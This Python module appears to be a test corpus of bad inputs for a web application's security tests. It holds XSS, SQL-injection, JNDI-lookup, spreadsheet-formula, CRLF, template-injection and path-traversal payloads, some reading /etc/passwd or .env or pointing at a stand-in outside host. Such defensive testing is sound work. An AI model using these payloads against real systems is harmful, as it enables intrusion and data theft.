"""The bad-input corpus of security.md section 4 as data: what no form, import, export, feed or PDF may stumble over.

Each value that can hold words holds `MARK`, so that a log line that quotes it is found. Files are made in
`tests/corpus/files.py`; nothing is stored as a blob.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

# A word that nobody writes: where it turns up in a log, a value was logged.
MARK = "Qanarie7c1e"
OUTSIDE = "http://198.51.100.7/"


@dataclass(frozen=True)
class Row:
    """One row of the corpus: what it is called, and what is sent."""

    name: str
    value: str | bytes

    @property
    def text(self) -> str:
        """The value as a reader of UTF-8 sees it."""
        return self.value if isinstance(self.value, str) else self.value.decode("utf-8", "replace")

    @property
    def is_markup(self) -> bool:
        """Say whether a page that shows the value as it is would run or fetch something."""
        return bool(re.search(r"<\w|javascript:|data:text|onfocus=", self.text, re.IGNORECASE))


def rows(**values: str | bytes) -> tuple[Row, ...]:
    """Return rows, named by what they are."""
    return tuple(Row(name.replace("_", " "), value) for name, value in values.items())


TEXT = rows(
    empty="",
    spaces="   ",
    no_break_space="\u00a0\u202f",
    zero_width_only="\u200b\u200d\ufeff\u2060",
    NUL=f"a\x00{MARK}",
    NUL_alone="\x00",
    lone_surrogate=f"{MARK} \ud800".encode("utf-8", "surrogatepass"),
    bytes_that_are_no_text=MARK.encode() + b"\xff\xfe\x80",
    control_characters=f"{MARK}\x01\x07\x08\x1b[31m\x7f\x85",
    bidi_override=f"{MARK}\u202etxet",
    bidi_isolate=f"{MARK}\u2066\u2067 open",
    combining_flood=f"{MARK}" + "t\u0301\u0302\u0303" * 120,
    emoji=f"{MARK} \U0001f600",
    emoji_family=f"{MARK} \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    composed=f"{MARK} caf\u00e9",
    decomposed=f"{MARK} cafe\u0301",
    homoglyph=f"{MARK} p\u0430yp\u0430l",
    full_width="\uff31\uff41\uff4e\uff41\uff52\uff49\uff45",
    arabic_digits="\u0661\u0662\u0663",
    right_to_left=f"{MARK} \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    CRLF=f"{MARK}\r\nBcc: a\r\n\r\nb",
    lone_CR=f"{MARK}\rb\n\rc",
    line_separators=f"{MARK}\u2028b\u2029c\x0bd\x0ce",
    template_sum=f"{MARK}{{{{7*31337}}}}",
    template_tag=f"{MARK}{{% debug %}}{{% include 'x' %}}",
    percent=f"{MARK}%s%n%d%(a)s%",
    braces=f"{MARK}{{0}}{{a.__class__}}",
    jndi=f"{MARK}${{jndi:ldap://198.51.100.7/a}}",
    proto="__proto__",
    dunder_class="__class__",
    sql=f"{MARK}'; DROP TABLE portal_user; --",
    sql_or=f"{MARK}' OR '1'='1",
    like_wildcards=f"{MARK}%_\\",
    regex=f"{MARK}(a+)+$[",
    script=f"{MARK}<script>alert(1)</script>",
    script_in_attribute=f"\"><script src={OUTSIDE}></script>{MARK}",
    img=f"{MARK}<img src=x onerror=alert(1)>",
    img_outside=f"{MARK}<img src={OUTSIDE}a.png>",
    svg=f"{MARK}<svg/onload=alert(1)>",
    mathml=f"{MARK}<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    iframe=f"{MARK}<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    attribute=f"{MARK}\" autofocus onfocus=alert(1) x=\"",
    end_of_textarea=f"{MARK}</textarea><script>alert(1)</script>",
    end_of_title=f"{MARK}</title><script>alert(1)</script>",
    comment=f"{MARK}<!--><script>alert(1)</script>-->",
    entity=f"{MARK}&lt;script&gt;&#60;b&#62;&amp;",
    javascript_link="javascript:alert('" + MARK + "')",
    data_link="data:text/html,<script>alert('" + MARK + "')</script>",
    markdown_script=f"[{MARK}](javascript:alert(1)) ![{MARK}]({OUTSIDE}a.png) <script>alert(1)</script>",
    markdown_data=f"[{MARK}](data:text/html;base64,PHNjcmlwdD4=)",
    style=f"{MARK}<style>@import '{OUTSIDE}';</style><link rel=stylesheet href={OUTSIDE}>",
    formula=f"=cmd|' /C calc'!A0 {MARK}",
    formula_plus=f"+1+{MARK}",
    formula_at=f"@SUM({MARK})",
    tab_first=f"\t={MARK}",
    path=f"../../etc/passwd{MARK}",
    five_hundred_characters=MARK + "x" * 500,
)  # fmt: skip
NUMBERS_AND_DAYS = rows(
    two_to_31=str(2**31),
    two_to_63=str(2**63),
    two_to_70=str(2**70),
    negative="-1",
    zero="0",
    too_large_a_float="1e309",
    NaN="NaN",
    infinity="-Infinity",
    signalling_NaN="sNaN",
    hexadecimal="0x10",
    underscore="1_000",
    five_thousand_digits="9" * 5_000,
    five_thousand_decimals="0." + "1" * 5_000,
    large_exponent="1E+400000",
    comma="1,5",
    thousands="1.000,5",
    superscript="\u00b2",
    no_such_day="31-02-2026",
    no_day="0000-00-00",
    year_99999="99999-01-01",
    year_0001="0001-01-01",
    year_9999="9999-12-31",
    night_of_summer_time="2026-03-29T02:30",
    night_of_winter_time="2026-10-25T02:30",
    week="2026-W53",
    day_first="03-04-2026",
    month_first="12/25/2026",
    moment="2026-01-01T00:00:00+99:99",
    time_25="25:61",
)  # fmt: skip
# Too long to send in every field at once: the whole body may hold one megabyte.
LONG = rows(
    word_of_900_kB=MARK + "a" * 900_000,
    word_of_1_MB=MARK + "a" * 1_000_000,
    twenty_thousand_words=f"{MARK} " + "woord " * 20_000,
)  # fmt: skip
ALL = (*TEXT, *NUMBERS_AND_DAYS)
MARKUP = tuple(row for row in TEXT if row.is_markup)

# --- Login -----------------------------------------------------------------------------------------------------------
LOGIN_NAMES = rows(
    spaces_around="  olga-outsider  ",
    upper_case="OLGA-OUTSIDER",
    full_width="\uff4flga-outsider",
    Kelvin_sign="o\u212aga-outsider",
    dotted_I="OLGA-OUTS\u0130DER",
    zero_width="olga\u200b-outsider",
)

# --- Addresses and headers -------------------------------------------------------------------------------------------
PATHS = rows(
    eight_kilobytes="/nl/" + "a" * 8_000 + "/",
    encoded_slash="/nl/%2f%2f198.51.100.7/",
    two_slashes="//198.51.100.7/nl/",
    dot_dot="/nl/..%2f..%2fetc/passwd",
    plain_dot_dot="/nl/../../etc/passwd",
    static_dot_dot="/static/..%2f..%2f.env",
    backslash="/nl/%5c%5c198.51.100.7/",
    bad_percent="/nl/%zz%",
    no_utf8="/nl/%ff%fe%c0%af/",
    surrogate="/nl/%ed%a0%80/",
    NUL="/nl/a%00b/",
    CRLF="/nl/a%0d%0aSet-Cookie:%20a=b/",
    semicolon="/nl/;a=b/",
    language_of_nobody="/xx/inloop/",
    long_language="/" + "nl" * 500 + "/",
    formats="/nl/%25s%25n/",
    markup="/nl/%3Cscript%3Ealert(1)%3C/script%3E/",
)
LANGUAGES_ASKED = rows(
    garbage=";;;q=,,*/*",
    very_long="nl-" + "a" * 5_000,
    many=",".join(f"a{number}" for number in range(1_000)),
    NUL="nl\x00",
    quality="nl;q=NaN,en;q=1e309,es;q=-1",
    path="../../../etc/passwd",
    unicode="\u00e9\u00e8",
)
COOKIES = rows(
    ten_kilobytes="a" * 10_000,
    no_session="0" * 32,
    markup="<script>alert(1)</script>",
    NUL="a\x00b",
    quotes='"\\073"',
    signed="a:b:c",
    sql="' OR 1=1 --",
)
HOSTS = rows(
    foreign="198.51.100.7",
    with_name="testserver@198.51.100.7",
    two="testserver,198.51.100.7",
    empty="",
    spaces="test server",
    port="testserver:99999999",
    path="testserver/../x",
    markup="<script>",
    CRLF="testserver\\r\\nX: y",
)

# --- Cells of a spreadsheet ------------------------------------------------------------------------------------------
FORMULAS = ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "\uff1d1+1", " =1+1")

# --- A calendar ------------------------------------------------------------------------------------------------------
CALENDAR = rows(
    alarm="Thee\r\nBEGIN:VALARM\r\nTRIGGER:-PT5M\r\nEND:VALARM",
    lone_LF="Thee\nEND:VEVENT\nBEGIN:VEVENT",
    lone_CR="Thee\rATTACH:" + OUTSIDE,
    separators='a;b,c\\d:e"f',
    folding_inside_a_character="\u00e9" * 60 + "\U0001f469\u200d\U0001f467" * 20,
    line_separator="Thee\u2028BEGIN:VALARM\x85X:Y",
)

# --- Text in a PDF ---------------------------------------------------------------------------------------------------
PDF = rows(
    img_outside=f"<img src={OUTSIDE}a.png>",
    attachment="<link rel=attachment href=file:///etc/passwd>",
    import_outside=f"<style>@import url({OUTSIDE}a.css);</style>",
    font_outside=f"<style>@font-face{{font-family:x;src:url({OUTSIDE}a.ttf)}}*{{font-family:x}}</style>",
    svg_image=f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{OUTSIDE}a.png'/></svg>",
    file="<img src=file:///etc/passwd>",
    object="<object data=file:///etc/passwd></object><embed src=file:///etc/hosts>",
    base=f"<base href={OUTSIDE}><img src=a.png>",
    meta="<meta name=author content=Qanarie><title>Qanarie</title>",
    nested="<div>" * 500,
    colspan="<table><tr><td colspan=100000>a</td></tr></table>",
    style_attribute="<p style='position:fixed;font-size:9999px'>a</p>",
    long_word="a" * 3_000,
    right_to_left="\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    thai="\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    chinese="\u4f60\u597d",
    bulgarian="\u0417\u0434\u0440\u0430\u0432\u0435\u0439\u0442\u0435",
    emoji="\U0001f469\u200d\U0001f469\u200d\U0001f467",
    NFD="cafe\u0301",
    private_use="\ue000\uf8ff",
    control_characters="a\x01\x0b\x0c\x1fb",
    entity="&#0;&#xD800;&#x1F600;",
)
